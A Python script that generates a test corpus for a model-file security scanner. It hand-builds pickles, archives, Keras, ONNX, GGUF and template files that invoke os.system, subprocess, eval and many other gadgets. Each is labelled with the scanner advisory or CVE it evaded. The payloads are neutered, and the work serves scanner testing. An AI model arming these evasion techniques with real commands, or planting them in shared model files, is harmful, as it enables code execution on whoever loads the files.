"""Writes files for tools/check_scan.py: malicious ones, whose payloads do nothing, and harmless ones.

    python tools/scan_corpus.py FOLDER
    python tools/scan_corpus.py FOLDER --fixtures    the small ones of FOLDER become the tests' corpus.json

FOLDER/malicious and FOLDER/harmless are made. Every malicious file calls os.system("true"), print, or names what would read or
write a file that is not there; those that Python can load are loaded by nobody. Harmless ones are written by the libraries
themselves: numpy, torch, torchvision, scikit-learn, joblib, pandas, keras, h5py, onnx, gguf, safetensors, dill, cloudpickle,
xgboost, lightgbm, skops; those of a library that isn't there are left out, with a note.

Each bypass names where it was published: advisories of picklescan (GHSA-…), issues of modelscan, fickling and modelaudit, CVEs.
"""

import base64
import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

COMMAND = "true"

# ----------------------------------------------------------------------------------------------------- pickles by hand


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def value(item):
    """Opcodes that push a plain value."""
    if isinstance(item, bytes):
        return item  # opcodes already
    if item is None:
        return b"N"
    if item is True:
        return b"\x88"
    if item is False:
        return b"\x89"
    if isinstance(item, str):
        return text(item)
    if isinstance(item, int):
        return b"J" + struct.pack("<i", item)
    if isinstance(item, tuple):
        return b"(" + b"".join(map(value, item)) + b"t"
    if isinstance(item, list):
        return b"](" + b"".join(map(value, item)) + b"e"
    if isinstance(item, dict):
        return b"}(" + b"".join(value(k) + value(v) for k, v in item.items()) + b"u"
    raise TypeError(item)


def name(module, attribute):
    """GLOBAL, or STACK_GLOBAL for a name with dots."""
    if "." in attribute:
        return text(module) + text(attribute) + b"\x93"
    return f"c{module}\n{attribute}\n".encode()


def call(module, attribute, *arguments):
    return name(module, attribute) + value(tuple(arguments)) + b"R"


def whole(body, protocol=4):
    return b"\x80" + bytes([protocol]) + body + b"."


def gadget(module, attribute, *arguments):
    return whole(call(module, attribute, *arguments))


PAYLOAD = call("os", "system", COMMAND)

# Functions that run or open something, by who published them as passing a scanner.
GADGETS = {
    # the usual ones
    "os-system": ("os", "system", COMMAND),
    "posix-system": ("posix", "system", COMMAND),
    "nt-system": ("nt", "system", COMMAND),
    "subprocess-popen": ("subprocess", "Popen", [COMMAND]),
    "subprocess-check-output": ("subprocess", "check_output", [COMMAND]),
    "eval": ("builtins", "eval", "1"),
    "exec": ("builtins", "exec", "pass"),
    "py2-eval": ("__builtin__", "eval", "1"),
    "import": ("builtins", "__import__", "os"),
    "open": ("builtins", "open", "/nonexistent"),
    "compile": ("builtins", "compile", "1", "x", "eval"),
    "breakpoint": ("builtins", "breakpoint"),
    "commands": ("commands", "getoutput", COMMAND),
    "webbrowser": ("webbrowser", "open", "about:blank"),
    "socket": ("socket", "create_connection", ("localhost", 1)),
    "shutil": ("shutil", "rmtree", "/nonexistent"),
    "runpy": ("runpy", "_run_code", "pass", {}),
    "sys": ("sys", "exit", 0),
    "print": ("builtins", "print", "hello"),
    # picklescan, GHSA-655q-fx9r-782v and the advisories of 2025 and 2026
    "pip-main": ("pip", "main", ["help"]),
    "pip-internal": ("pip._internal", "main", ["help"]),
    "timeit": ("timeit", "timeit", "pass"),
    "cprofile-runctx": ("cProfile", "runctx", "pass", {}, {}),
    "profile-run": ("profile", "Profile.run", None, "pass"),
    "trace-run": ("trace", "Trace.run", None, "pass"),
    "trace-runctx": ("trace", "Trace.runctx", None, "pass"),
    "pdb-run": ("pdb", "run", "pass"),
    "bdb": ("bdb", "Bdb.run", None, "pass"),
    "code-runcode": ("code", "InteractiveInterpreter.runcode", None, "pass"),
    "code-interact": ("code", "interact"),
    "doctest-debug-script": ("doctest", "debug_script", "pass"),
    "ensurepip": ("ensurepip", "_run_pip", ["help"]),
    "idlelib-autocomplete": ("idlelib.autocomplete", "AutoComplete.get_entity", None, "1"),
    "idlelib-calltip": ("idlelib.calltip", "get_entity", "1"),
    "idlelib-debugobj": ("idlelib.debugobj", "ObjectTreeItem.SetText", None, "1"),
    "idlelib-pyshell": ("idlelib.pyshell", "ModifiedInterpreter.runcode", None, "1"),
    "idlelib-run": ("idlelib.run", "Executive.runcode", None, "1"),
    "lib2to3-grammar": ("lib2to3.pgen2.grammar", "Grammar.loads", None, "x"),
    "lib2to3-pgen": ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, None, "'1'"),
    "pydoc-locate": ("pydoc", "locate", "os.system"),
    "pydoc-pipepager": ("pydoc", "pipepager", "x", COMMAND),
    "pty-spawn": ("pty", "spawn", COMMAND),
    "asyncio": ("asyncio.unix_events", "_UnixSubprocessTransport._start", None, COMMAND, True, None, None, None, 0),
    "torch-bottleneck": ("torch.utils.bottleneck.__main__", "run_cprofile", "pass", {}),
    "torch-bottleneck-autograd": ("torch.utils.bottleneck.__main__", "run_autograd_prof", "pass", {}),
    "torch-guards": ("torch._dynamo.guards", "GuardBuilder.get", None, "1"),
    "torch-collect-env": ("torch.utils.collect_env", "run", COMMAND),
    "torch-symbolic-shapes": (
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
        None,
        "1",
        [],
    ),
    "torch-exec-wrapper": ("torch.jit.unsupported_tensor_ops", "execWrapper", "pass", {}, {}),
    "torch-config-module": ("torch.utils._config_module", "ConfigModule.load_config", None, "x"),
    "torch-basichandlers": ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pkl", "x"),
    "torch-compile-file": ("torch._inductor.codecache", "compile_file", "", "", [COMMAND]),
    "torch-hub": ("torch.hub", "load", "/nonexistent", "model"),
    "torch-load": ("torch", "load", "/nonexistent"),
    "torch-serialization-load": ("torch.serialization", "load", "/nonexistent"),
    "torch-os": ("torch", "os.system", COMMAND),
    "torch-serialization-os": ("torch.serialization", "os.system", COMMAND),
    "torch-cpp-extension": ("torch.utils.cpp_extension", "load", "x", []),
    "numpy-runstring": ("numpy.testing._private.utils", "runstring", "pass", {}),
    "numpy-f2py": ("numpy.f2py.crackfortran", "getlincoef", "1", {}),
    "numpy-f2py-eval": ("numpy.f2py.crackfortran", "_eval_length", "1", {}),
    "numpy-load": ("numpy", "load", "/nonexistent"),
    "numpy-load-library": ("numpy.ctypeslib", "load_library", "nonexistent", "/nonexistent"),
    "pkgutil-resolve-name": ("pkgutil", "resolve_name", "os:system"),
    "importlib": ("importlib", "import_module", "os"),
    "marshal": ("marshal", "loads", "x"),
    "imaplib-stream": ("imaplib", "IMAP4_stream", COMMAND),
    "logging-filehandler": ("logging", "FileHandler", "/nonexistent/x"),
    "io-fileio": ("_io", "FileIO", "/nonexistent"),
    "distutils-write-file": ("distutils.file_util", "write_file", "/nonexistent/x", []),
    "ssl-certificate": ("ssl", "get_server_certificate", ("localhost", 1)),
    "urllib-urlopen": ("urllib.request", "urlopen", "file:///nonexistent"),
    "http-client": ("http.client", "HTTPSConnection", "localhost"),
    "requests": ("requests.api", "get", "http://localhost:1"),
    "uuid-command": ("uuid", "_get_command_stdout", COMMAND),
    "osx-support": ("_osx_support", "_read_output", COMMAND),
    "aix-support": ("_aix_support", "_read_cmd_output", COMMAND),
    "pyrepl-pager": ("_pyrepl.pager", "pipe_pager", "x", COMMAND),
    "script-helper": ("test.support.script_helper", "assert_python_ok", "-c", "pass"),
    "venv-create": ("venv", "create", "/nonexistent/x"),
    "multiprocessing-spawn": ("multiprocessing.util", "spawnv_passfds", COMMAND, [COMMAND], []),
    # fickling: GHSA-r7v6-mfhq-g3m2, GHSA-m6fh-58r7-x697, GHSA-mhc9-48gj-9gp3, GHSA-6ggj-6f2q-f7mx and others
    "posixsubprocess": ("_posixsubprocess", "fork_exec", [COMMAND]),
    "site-addpackage": ("site", "addpackage", "/nonexistent", "x", None),
    "atexit": ("atexit", "register", b"cos\nsystem\n", COMMAND),
    "interpreters": ("_interpreters", "run_string", 0, "pass"),
    "subinterpreters": ("_xxsubinterpreters", "run_string", 0, "pass"),
    "ctypes-cdll": ("ctypes", "CDLL", "nonexistent"),
    "sqlite3": ("sqlite3", "connect", "/nonexistent/x"),
    "linecache": ("linecache", "getlines", "/nonexistent"),
    "imp-load-source": ("imp", "load_source", "x", "/nonexistent"),
    "pipes-template": ("pipes", "Template.open", None, "x", "r"),
    "smtplib": ("smtplib", "SMTP", "localhost", 1),
    "gc-get-objects": ("gc", "get_objects"),
    "types-function": ("types", "FunctionType", None, {}),
    "signal": ("signal", "signal", 2, None),
    "threading-timer": ("threading", "Timer", 0, b"cos\nsystem\n"),
    # modelscan's issues 338, 346; other libraries
    "mailcap": ("mailcap", "findmatch", {}, "text/plain"),
    "pandas-read-pickle": ("pandas", "read_pickle", "/nonexistent"),
    "pandas-read-csv": ("pandas.io.parsers.readers", "read_csv", "/nonexistent"),
    "pandas-eval": ("pandas", "eval", "1"),
    "mlflow": ("mlflow.projects.backend.local", "_run_entry_point", COMMAND, ".", "", ""),
    "joblib-load": ("joblib", "load", "/nonexistent"),
    "dill-loads": ("dill", "loads", "x"),
    "cloudpickle-subimport": ("cloudpickle.cloudpickle", "subimport", "os"),
    "aiohttp": ("aiohttp.client", "request", "GET", "http://localhost:1"),
    "sympy-parse": ("sympy.parsing.sympy_parser", "parse_expr", "1"),
    "platform-popen": ("platform", "popen", COMMAND),
    "unknown-package": ("a_package_of_nobody", "Class"),
    "main-class": ("__main__", "Net"),
    "keras-get-file": ("keras.src.utils.file_utils", "get_file", "x", "file:///nonexistent"),
    "torch-from-file": ("torch", "UntypedStorage.from_file", "/nonexistent", False, 0),
    "antigravity": ("antigravity", "webbrowser.open", "about:blank"),
}


def tricks():
    """Ways to hide what is called."""
    yield "inst", b"\x80\x02(" + text(COMMAND) + b"ios\nsystem\n."  # modelscan; picklescan issue 13
    yield "obj", b"\x80\x02(" + name("os", "system") + text(COMMAND) + b"o."
    yield "obj-protocol-0", b'(cpty\nspawn\nS"id"\no.'  # fickling's pull request 108
    yield "newobj", b"\x80\x02" + name("subprocess", "Popen") + value(([COMMAND],)) + b"\x81."
    yield "newobj-ex", b"\x80\x04" + name("subprocess", "Popen") + value(()) + value({"args": [COMMAND]}) + b"\x92."
    yield "protocol-0", b"cos\nsystem\n(S'true'\ntR."
    yield "no-stop", b"\x80\x02" + PAYLOAD
    yield "broken-after", b"\x80\x04" + PAYLOAD + b"\xff\xff\xff"  # JFrog, nullifAI: broken after the payload
    yield "broken-text-after", b"cos\nsystem\n(S'true'\ntRtrailing text that is no opcode"
    yield "popped", b"\x80\x02" + PAYLOAD + b"0N."
    yield "in-list", b"\x80\x02](" + b"N" * 100 + PAYLOAD + b"e."
    yield "second-pickle", pickle.dumps({"a": 1}) + whole(PAYLOAD)
    yield "after-many", b"".join(pickle.dumps(i) for i in range(50)) + whole(PAYLOAD)
    # picklescan issue 14: PUT and MEMOIZE number differently.
    confused = b"U\x02osq\x00U\x06systemq\x01" + text("torch._utils") + b"\x94" + text("_rebuild_tensor_v2") + b"\x94"
    yield "memo-confusion", b"\x80\x04" + confused + b"h\x00h\x01\x93" + value((COMMAND,)) + b"R."
    yield (
        "memo-overwritten",
        b"\x80\x04"
        + text("collections")
        + b"q\x000"
        + text("os")
        + b"q\x000h\x00"
        + text("system")
        + b"\x93"
        + value((COMMAND,))
        + b"R.",
    )
    yield (
        "memo-text-keys",
        b"\x80\x04" + text("os") + b"p 1_0 \n0" + text("system") + b"p11\n0g10\ng11\n\x93" + value((COMMAND,)) + b"R.",
    )
    yield "escaped-unicode", b"\x80\x04V\\u006fs\nV\\u0073ystem\n\x93" + value((COMMAND,)) + b"R."
    yield "escaped-string", b"\x80\x04S'o\\x73'\nS'\\163ystem'\n\x93" + value((COMMAND,)) + b"R."
    yield "dup", b"\x80\x04" + text("os") + text("system") + b"\x932" + value((COMMAND,)) + b"R."
    # modelscan issue 85: attributes of a function hold the name.
    set_state = (
        name("numpy", "prod") + b"N}" + text("a") + text("os") + b"s\x86bN}" + text("b") + text("system") + b"s\x86b0"
    )
    yield (
        "attributes-of-function",
        (
            b"\x80\x04"
            + set_state
            + text("numpy")
            + text("prod.a")
            + b"\x93"
            + text("numpy")
            + text("prod.b")
            + b"\x93\x93"
            + value((COMMAND,))
            + b"R."
        ),
    )
    yield (
        "build-class",
        b"\x80\x02" + name("collections", "OrderedDict") + value({"__init__": name("os", "system")}) + b"b.",
    )
    target = name("argparse", "Namespace") + b")\x81"
    yield (
        "setstate-of-instance",
        b"\x80\x02" + target + value({"__setstate__": name("os", "system")}) + b"b" + text(COMMAND) + b"b.",
    )
    yield (
        "setstate-print",
        b"\x80\x02" + target + value({"__setstate__": name("builtins", "print")}) + b"b" + text("x") + b"b.",
    )
    yield "partial", b"\x80\x02" + call("functools", "partial", name("os", "system"), COMMAND) + b")R."
    yield (
        "partial-state",
        b"\x80\x02"
        + call("functools", "partial", name("builtins", "dict"))
        + value((name("os", "system"), (COMMAND,), {}, None))
        + b"b)R.",
    )
    yield "defaultdict", b"\x80\x02" + call("collections", "defaultdict", name("os", "getcwd")) + b"."
    yield (
        "getattr",
        b"\x80\x02"
        + call("builtins", "getattr", call("builtins", "__import__", "os"), "system")
        + value((COMMAND,))
        + b"R.",
    )
    yield (
        "getattr-subclasses",
        b"\x80\x02" + call("builtins", "getattr", name("builtins", "object"), "__subclasses__") + b")R.",
    )
    yield (
        "getattr-globals",
        b"\x80\x02" + call("builtins", "getattr", name("torch._utils", "_rebuild_tensor_v2"), "__globals__") + b".",
    )
    yield (
        "getattr-from-file",
        b"\x80\x02"
        + call("builtins", "getattr", name("torch", "FloatStorage"), "from_file")
        + value(("/nonexistent", False, 1))
        + b"R.",
    )
    yield (
        "attrgetter",
        b"\x80\x02"
        + call("operator", "attrgetter", "system")
        + value((name("torch.serialization", "os"),))
        + b"R"
        + value((COMMAND,))
        + b"R.",
    )
    yield (
        "methodcaller",
        b"\x80\x02"
        + call("operator", "methodcaller", "system", COMMAND)
        + value((call("builtins", "__import__", "os"),))
        + b"R.",
    )
    yield (
        "itemgetter",
        b"\x80\x02"
        + call("operator", "itemgetter", "system")
        + value((call("builtins", "getattr", name("torch._utils", "_rebuild_tensor"), "__globals__"),))
        + b"R.",
    )
    yield "map", b"\x80\x02" + call("builtins", "list", call("builtins", "map", name("os", "system"), [COMMAND])) + b"."
    yield (
        "reconstructor",
        b"\x80\x02"
        + call("copyreg", "_reconstructor", name("subprocess", "Popen"), name("builtins", "object"), None)
        + b".",
    )
    yield (
        "rebuild-from-type",
        b"\x80\x02"
        + call(
            "torch._tensor", "_rebuild_from_type_v2", name("os", "system"), name("torch", "Tensor"), (COMMAND,), None
        )
        + b".",
    )
    yield (
        "rebuild-getattr",
        b"\x80\x02"
        + call(
            "torch._tensor",
            "_rebuild_from_type_v2",
            name("builtins", "getattr"),
            name("torch", "Tensor"),
            (name("torch", "Tensor"), "__class__"),
            None,
        )
        + b".",
    )
    yield (
        "load-from-bytes",
        b"\x80\x02"
        + call("torch.storage", "_load_from_bytes", b"B" + struct.pack("<I", len(whole(PAYLOAD))) + whole(PAYLOAD))
        + b".",
    )
    yield (
        "pickle-in-pickle",
        b"\x80\x02" + call("pickle", "loads", b"B" + struct.pack("<I", len(whole(PAYLOAD))) + whole(PAYLOAD)) + b".",
    )
    yield (
        "encode-then-loads",
        b"\x80\x02"
        + call("_pickle", "loads", call("_codecs", "encode", "cos\nsystem\n(S'true'\ntR.", "latin1"))
        + b".",
    )
    register = call("copyreg", "add_extension", "os", "system", 7)
    yield "extension", b"\x80\x02" + register + b"0\x82\x07" + value((COMMAND,)) + b"R."
    yield "extension-alone", b"\x80\x02\x82\x07" + value((COMMAND,)) + b"R."
    yield "frame-wrong", b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x00" + PAYLOAD + b"."
    yield (
        "long-name",
        b"\x80\x04" + text("os") + text("system") + b"\x93(" + text("x" * 70000) + b"0" + text(COMMAND) + b"tR.",
    )
    yield "deep", b"\x80\x02" + b"(" * 500 + PAYLOAD + b"t" * 500 + b"."
    yield (
        "big-memo",
        b"\x80\x02"
        + text("os")
        + b"r\xff\xff\xff\x7f0j\xff\xff\xff\x7f"
        + text("system")
        + b"\x93"
        + value((COMMAND,))
        + b"R.",
    )
    yield (
        "computed-name",
        b"\x80\x04" + call("builtins", "str", "os") + text("system") + b"\x93" + value((COMMAND,)) + b"R.",
    )
    yield "protocol-9", b"\x80\x09" + PAYLOAD + b"."
    yield "comment-before", b"N0" * 200 + PAYLOAD + b"."
    yield "bunch-of-harmless", b"\x80\x02" + call("collections", "OrderedDict") * 200 + PAYLOAD + b"."


# ------------------------------------------------------------------------------------------------------------- archives


def torch_zip(pickled, compression=zipfile.ZIP_STORED, entry="archive/data.pkl", extra=()):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr(entry, pickled)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/data/0", bytes(64))
        for other, data in extra:
            archive.writestr(other, data)
    return buffer.getvalue()


def changed(data, position, new):
    return data[:position] + new + data[position + len(new) :]


def central(data):
    return data.index(b"PK\x01\x02")


def archives():
    evil, harmless = whole(PAYLOAD), pickle.dumps({"a": 1}, 2)
    plain = torch_zip(evil)
    yield "torch.pt", plain
    yield "torch-deflated.pt", torch_zip(evil, zipfile.ZIP_DEFLATED)
    yield "torch.bin", plain
    yield "torch.safetensors", plain
    yield "torch.txt", plain
    yield "torch-other-extension.pt", torch_zip(harmless, extra=[("archive/config.p", evil)])  # CVE-2025-1889
    yield "torch-no-extension.pt", torch_zip(harmless, extra=[("archive/hook", evil)])
    yield "torch-in-data.pt", torch_zip(harmless, extra=[("archive/data/1", evil)])
    yield "flag-bit.pt", changed(plain, central(plain) + 8, b"\x01\x00")  # CVE-2025-1945
    yield "flag-bit-local.pt", changed(plain, 6, b"\x01\x00")
    yield "flag-bits.pt", changed(changed(plain, 6, b"\x41\x20"), central(plain) + 8, b"\x41\x20")
    yield "name-differs.pt", plain.replace(b"archive/data.pkl", b"archive/data.txt", 1)  # CVE-2025-1944
    crc = zlib.crc32(evil)
    yield "checksum-differs.pt", plain.replace(struct.pack("<I", crc), struct.pack("<I", crc ^ 1))  # CVE-2025-10156
    yield "central-method-differs.pt", changed(plain, central(plain) + 10, b"\x08\x00")
    yield "size-zero-local.pt", changed(plain, 18, bytes(8))
    yield "twice.pt", double_entry(harmless, evil)
    yield "twice-other-way.pt", double_entry(evil, harmless)
    yield "no-directory.pt", plain[: central(plain)]
    yield "hidden-entry.pt", hide_entry(harmless, evil)
    yield "prefix-pickle.pt", evil + torch_zip(harmless)
    yield "prefix-bytes.pt", bytes(16) + plain
    yield "suffix.pt", plain + b"trailing bytes"
    yield "comment.pt", plain[:-2] + struct.pack("<H", len(evil)) + evil
    yield "zip-in-zip.zip", nested_zip(plain, 2)
    yield "path-leads-out.pt", torch_zip(harmless, extra=[("../../outside.pkl", evil)])
    yield "npz-member.npz", zip_of({"a.npy": npy_objects(evil)})
    yield "npz-pickle.npz", zip_of({"a.npy": evil})
    yield "gz.pkl.gz", gzip.compress(evil)
    yield "gz-members.pkl.gz", gzip.compress(evil[:5]) + gzip.compress(evil[5:])
    yield "gz-damaged.pkl.gz", gzip.compress(evil + bytes(1000))[:-8]
    yield "zlib.joblib", zlib.compress(evil)
    yield "bz2.joblib", bz2.compress(evil)
    yield "xz.joblib", lzma.compress(evil)
    yield "lzma.joblib", lzma.compress(evil, format=lzma.FORMAT_ALONE)
    long = b"".join(pickle.dumps({"a": i}, 2) for i in range(3000)) + evil
    yield "long.bz2", bz2.compress(long, 1)
    yield "long.xz", lzma.compress(long)
    yield "long-other.xz", lzma.compress(long, filters=[{"id": lzma.FILTER_LZMA2, "lc": 1, "lp": 2, "pb": 0}])
    yield "streams.bz2", bz2.compress(evil[:7]) + bz2.compress(evil[7:])
    yield "streams.xz", lzma.compress(evil[:7]) + lzma.compress(evil[7:])
    for method, key in ((zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "lzma")):
        yield f"{key}.zip", zip_of({"a/data.pkl": evil}, method)
    yield "tar.tar", tar_of({"model.pkl": evil})
    yield "tar-gz.tar.gz", gzip.compress(tar_of({"weights/model.bin": evil}))
    yield "old-torch-tar.pt", tar_of({"storages": pickle.dumps(0, 2), "tensors": pickle.dumps(0, 2), "pickle": evil})
    yield (
        "nemo.nemo",
        tar_of({"model_config.yaml": b"model:\n  _target_: os.system\n", "model_weights.ckpt": torch_zip(harmless)}),
    )
    yield "tar-link.tar", tar_link()
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    yield "legacy.pt", magic + evil + pickle.dumps([], 2)
    yield "legacy-in-first.pt", evil + magic + harmless + pickle.dumps([], 2)
    yield (
        "legacy-other-magic.pt",
        pickle.dumps(7, 2) + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + evil,
    )  # modelscan's magic check
    yield "legacy-after-storages.pt", magic + harmless + pickle.dumps([], 2) + bytes(512) + evil
    yield "objects.npy", npy_objects(evil)
    yield "objects-version-2.npy", npy_objects(evil, version=2)
    yield (
        "mar.mar",
        zip_of(
            {
                "MAR-INF/MANIFEST.json": b'{"model": {"handler": "handler.py"}}',
                "handler.py": b"print('x')\n",
                "model.pt": torch_zip(harmless),
            }
        ),
    )
    yield "native.pt2", zip_of({"data/aotinductor/model/model.so": b"\x7fELF\x02\x01\x01" + bytes(100)})


def zip_of(entries, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for entry, data in entries.items():
            archive.writestr(entry, data)
    return buffer.getvalue()


def nested_zip(data, depth):
    for level in range(depth):
        data = zip_of({f"inner{level}.zip": data})
    return data


def double_entry(first, second):
    import warnings

    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("archive/data.pkl", first)
            archive.writestr("archive/data.pkl", second)
    return buffer.getvalue()


def hide_entry(shown, hidden):
    """An entry in front that the directory doesn't have, for readers from the front."""
    local = struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, zlib.crc32(hidden), len(hidden), len(hidden), 16, 0
    )
    front = local + b"archive/data.pkl" + hidden
    return front + torch_zip(shown)


def tar_of(entries):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for entry, data in entries.items():
            info = tarfile.TarInfo(entry)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def tar_link():
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("weights")
        info.type, info.linkname = tarfile.SYMTYPE, "../../outside"
        archive.addfile(info)
    return buffer.getvalue()


def npy_objects(pickled, version=1):
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    width = 2 if version == 1 else 4
    header += b" " * (-(len(header) + 9 + width) % 64) + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + len(header).to_bytes(width, "little") + header + pickled


# -------------------------------------------------------------------------------------------------- graphs, templates


def layer(class_name, module="keras.layers", **config):
    out = {"class_name": class_name, "config": {"name": class_name.lower(), **config}}
    return out if module is None else {"module": module, "registered_name": None, **out}


def keras_config(*layers):
    return json.dumps({"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": list(layers)}})


LAMBDA = {
    "class_name": "__lambda__",
    "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA", "defaults": None, "closure": None},
}


def keras(config, **entries):
    files = {"metadata.json": '{"keras_version": "3.0.0"}', "config.json": config, **entries}
    return zip_of(files, zipfile.ZIP_STORED)


def field(number, data):
    """A field of a protocol buffer."""
    if isinstance(data, int):
        return varint(number << 3) + varint(data)
    data = data.encode() if isinstance(data, str) else data
    return varint(number << 3 | 2) + varint(len(data)) + data


def varint(number):
    out = b""
    while number > 0x7F:
        out += bytes([number & 0x7F | 0x80])
        number >>= 7
    return out + bytes([number])


def onnx_model(nodes=b"", initializers=b""):
    return field(1, 8) + field(2, "corpus") + field(7, nodes + field(2, "g") + initializers) + field(8, field(2, 18))


def gguf(metadata):
    def string(value):
        return struct.pack("<Q", len(value.encode())) + value.encode()

    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(metadata))
    return out + b"".join(string(key) + struct.pack("<I", 8) + string(value) for key, value in metadata.items())


def others():
    dense = layer("Dense", units=1)
    yield "lambda.keras", keras(keras_config(dense, layer("Lambda", function=LAMBDA)))
    yield (
        "lambda-escaped.keras",
        keras(
            keras_config(layer("Lambda", function=LAMBDA))
            .replace('"Lambda"', '"L\\u0061mbda"')
            .replace('"class_name"', '"cl\\u0061ss_name"')
            .replace("__lambda__", "__l\\u0061mbda__")
        ),
    )
    yield (
        "module.keras",
        keras(keras_config(dense | {"module": "os", "class_name": "function", "config": "system"})),
    )  # CVE-2025-1550
    yield "module-unknown.keras", keras(keras_config(layer("Net", module="a_package_of_nobody")))
    yield (
        "get-file.keras",
        keras(
            keras_config(
                {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}
            )
        ),
    )  # CVE-2025-8747
    yield (
        "vocabulary.keras",
        keras(keras_config(layer("StringLookup", vocabulary="/nonexistent/words.txt"))),
    )  # CVE-2025-12058
    yield (
        "torch-module.keras",
        keras(keras_config(layer("TorchModuleWrapper", module={"class_name": "__bytes__"}))),
    )  # CVE-2025-49655
    yield (
        "weights-npz.keras",
        keras(keras_config(dense), **{"model.weights.npz": whole(PAYLOAD)}),
    )  # modelscan's pull request 262
    yield "deep-lambda.keras", keras(keras_config(layer("TimeDistributed", layer=layer("Lambda", function=LAMBDA))))
    yield (
        "lambda.h5",
        hdf5(keras_config(layer("Lambda", module=None, function=["4wEAAA==", None, None], function_type="lambda"))),
    )  # CVE-2025-9905
    yield (
        "lambda-long.h5",
        hdf5(keras_config(*[layer("Dense", module=None, units=1, note="x" * 200)] * 400, layer("Lambda", module=None))),
    )
    yield "module.h5", hdf5(keras_config(layer("Net", module="a_package_of_nobody")))
    node = field(1, field(1, "n") + field(2, "WriteFile"))
    yield "saved_model.pb", field(1, 1) + field(2, field(2, node))
    yield "read-file/saved_model.pb", field(1, 1) + field(2, field(2, field(1, field(1, "n") + field(2, "ReadFile"))))
    yield "pyfunc/saved_model.pb", field(1, 1) + field(2, field(2, field(1, field(1, "n") + field(2, "PyFunc"))))
    yield (
        "keras_metadata.pb",
        field(1, field(3, json.dumps({"class_name": "Lambda", "config": {"name": "l", "function": "x"}}))),
    )
    external = field(13, field(1, "location") + field(2, "../../../etc/hostname"))
    yield (
        "outside.onnx",
        onnx_model(initializers=field(5, field(1, 1) + field(2, 1) + field(8, "w") + external + field(14, 1))),
    )
    yield (
        "absolute.onnx",
        onnx_model(
            initializers=field(
                5,
                field(1, 1)
                + field(2, 1)
                + field(8, "w")
                + field(13, field(1, "location") + field(2, "/etc/hostname"))
                + field(14, 1),
            )
        ),
    )
    yield "custom.onnx", onnx_model(nodes=field(1, field(2, "y") + field(4, "Run") + field(7, "com.nobody")))
    yield "python.onnx", onnx_model(nodes=field(1, field(2, "y") + field(4, "PyOp") + field(7, "ai.onnx.contrib")))
    escape = "{{ messages.__class__.__mro__[1].__subclasses__() }}"
    yield "template.gguf", gguf({"general.architecture": "llama", "tokenizer.chat_template": escape})  # CVE-2024-34359
    yield "template/tokenizer_config.json", json.dumps({"chat_template": escape}).encode()
    yield "template-attr/chat_template.jinja", b"{{ cycler|attr('\\x5f\\x5finit\\x5f\\x5f') }}"
    yield "auto-map/config.json", json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.Net"}}).encode()
    yield "auto-map/modeling_x.py", None
    yield "pipeline/model_index.json", json.dumps({"_class_name": "P", "unet": ["my_pipeline", "Net"]}).encode()
    yield "python-object.yaml", b"model: !!python/object/apply:os.system ['true']\n"
    yield "jsonpickle.json", json.dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}).encode()
    yield from torchscript()


def hdf5(config):
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file.attrs["model_config"] = config
        file.attrs["keras_version"] = "2.15.0"
        file.create_group("model_weights")
    return buffer.getvalue()


def torchscript():
    import torch

    class Writes(torch.nn.Module):
        def forward(self, x: torch.Tensor):
            torch.save(x, "/nonexistent/x")
            return x

    class Reads(torch.nn.Module):
        def forward(self, x: torch.Tensor):
            return torch.from_file("/nonexistent/x")

    for made, cls in (("script-writes.pt", Writes), ("script-reads.pt", Reads)):
        buffer = io.BytesIO()
        torch.jit.save(torch.jit.script(cls()), buffer)
        yield made, buffer.getvalue()


def code_pickles():
    """Functions by value, as dill and cloudpickle store them."""
    import cloudpickle
    import dill

    def function(x):
        return x + 1

    function.__module__ = "__main__"
    yield "function.dill", dill.dumps(function, recurse=True)
    yield "lambda.cloudpickle.pkl", cloudpickle.dumps(lambda x: x + 1)

    class Evil:
        def __reduce__(self):
            import os

            return os.system, (COMMAND,)

    yield "evil.dill", dill.dumps(Evil())
    import joblib
    import numpy

    buffer = io.BytesIO()
    joblib.dump({"array": numpy.zeros(1000), "evil": Evil()}, buffer)
    yield "array-then-evil.joblib", buffer.getvalue()
    buffer = io.BytesIO()
    joblib.dump({"array": numpy.array([Evil()], dtype=object), "b": 1}, buffer)
    yield "in-object-array.joblib", buffer.getvalue()
    buffer = io.BytesIO()
    joblib.dump({"array": numpy.zeros(1000), "evil": Evil()}, buffer, compress=3)
    yield "packed.joblib", buffer.getvalue()


def malicious():
    for key, (module, attribute, *arguments) in GADGETS.items():
        yield f"gadget-{key}.pkl", gadget(module, attribute, *arguments)
    for key, data in tricks():
        yield f"trick-{key}.pkl", data
